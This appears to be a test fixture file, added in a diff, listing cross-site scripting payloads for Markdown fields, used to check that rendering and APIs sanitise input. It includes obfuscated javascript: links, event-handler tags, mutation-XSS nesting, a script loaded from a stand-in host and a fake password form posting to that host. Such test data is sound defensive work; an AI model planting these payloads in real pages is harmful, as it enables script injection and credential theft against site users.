@@ -1,0 +1,32 @@
+/** Script and event-handler payloads for Markdown fields, shared by the rendering and API tests. */
+
+/** Payloads that would run script if written into a page as is. */
+export const XSS_PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<a href="javascript:alert(1)">click</a>',
+  '[click](javascript:alert(1))',
+  '[click](JaVaScRiPt:alert(1))',
+  '[click](java\tscript:alert(1))',
+  '[click](&#106;avascript:alert(1))',
+  '[click](vbscript:msgbox(1))',
+  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
+  '[ref]\n\n[ref]: javascript:alert(1)',
+  '<iframe src="https://evil.example"></iframe>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<details open ontoggle=alert(1)>',
+  '<a href="https://ok.example" onclick="alert(1)">x</a>',
+  '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
+  '`<script>` in code is text',
+  '```html\n<script>alert(1)</script>\n```',
+  '```"><script>alert(1)</script>\nx\n```',
+  '<!-- <script>alert(1)</script> -->',
+  '<style>body{display:none}</style>',
+  '<form action=https://evil.example><input name=password></form>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<<script>script>alert(1)<</script>/script>',
+];
